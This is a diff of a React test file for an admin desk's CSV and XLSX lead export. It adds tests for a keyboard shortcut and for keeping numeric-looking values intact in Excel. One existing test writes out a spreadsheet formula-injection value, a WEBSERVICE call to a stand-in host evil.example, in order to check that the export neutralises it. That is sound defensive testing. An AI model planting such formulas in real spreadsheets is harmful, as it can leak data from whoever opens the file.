@@ -1,4 +1,5 @@
 import { screen, waitFor } from '@testing-library/react';
+import { strFromU8, unzipSync } from 'fflate';
 import userEvent from '@testing-library/user-event';
 import { expect, test, vi } from 'vitest';
 
@@ -7,7 +8,7 @@ import { useDeskWatch } from '#src/data/reads/admin-desk.ts';
 import type { DeskFilter, DeskRow } from '#src/data/ports/desk-port.ts';
 import type { LeadDetails } from '#src/data/ports/leads-port.ts';
 import { DeskPage } from '#src/features/desk/admin/list/DeskPage.tsx';
-import { toCsv } from '#src/features/desk/admin/list/save-csv.ts';
+import { toCsv, toXlsx } from '#src/features/desk/admin/list/save-csv.ts';
 import { AppError } from '#src/lib/app-error.ts';
 import { addDays, dayInIndia } from '#src/lib/india-time.ts';
 import { renderAdmin } from '#tests/support/admin-surroundings.tsx';
@@ -108,6 +109,11 @@ test('by keyboard: the slash searches, the arrows go from row to row', async () 
   expect(screen.getByRole('link', { name: 'Q-261120-ANN' })).toHaveFocus();
   await userEvent.keyboard('{Home}{ArrowUp}');
   expect(screen.getByRole('link', { name: 'Q-261120-CAT' })).toHaveFocus();
+  // WCAG 2.1.4: a character alone is a shortcut only as long as nobody switches it off.
+  localStorage.setItem('admin-single-keys', 'off');
+  await userEvent.keyboard('/');
+  expect(screen.getByRole('link', { name: 'Q-261120-CAT' })).toHaveFocus();
+  localStorage.removeItem('admin-single-keys');
   await userEvent.keyboard('/');
   expect(screen.getByLabelText('Search')).toHaveFocus();
   await userEvent.keyboard('a/');
@@ -196,6 +202,34 @@ test('a text that a spreadsheet would run is none in the file', () => {
     { ...row, name: 'Asha;=WEBSERVICE("https://evil.example");', company: 'A\t @SUM(1)' },
   ]);
   expect(inner).toContain(`"Asha;'=WEBSERVICE(""https://evil.example"");","A\t' @SUM(1)"`);
+});
+
+test.each([
+  ['00123', '="00123"'],
+  ['0091 98765 43210', '="0091 98765 43210"'],
+  ['123456789012345678', '="123456789012345678"'],
+  ['1-2', '="1-2"'],
+  ['3/4', '="3/4"'],
+  ['1E5', '="1E5"'],
+  ['2e10', '="2e10"'],
+  ['+91 98765 43210', '="+91 98765 43210"'],
+  ['+919876543210', '="+919876543210"'],
+  ['12 Nov', '="12 Nov"'],
+  ['MARCH1', '="MARCH1"'],
+  ['10:30', '="10:30"'],
+  ['5 1/2', '="5 1/2"'],
+  ['(500)', '="(500)"'],
+  ['TRUE', '="TRUE"'],
+  ['125000', '125000'],
+  ['99.50', '99.50'],
+  ['2026-11-25', '2026-11-25'],
+  ['Marble paper 5', 'Marble paper 5'],
+  ['23 x 36', '23 x 36'],
+])('%s stays what it is when Excel opens the file', (company, cell) => {
+  const row: DeskRow = { ...lead('a'), categories: [], papers: [], samples: [], company, mail: 'fine' };
+  expect(toCsv([row])).toContain(`,"${cell.replaceAll('"', '""')}",`);
+  const sheet = strFromU8(unzipSync(toXlsx([row]))['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
+  expect(sheet).toContain(`>${company}</t>`);
 });
 
 test('offers to follow up are a list of their own, and marked in the others', async () => {
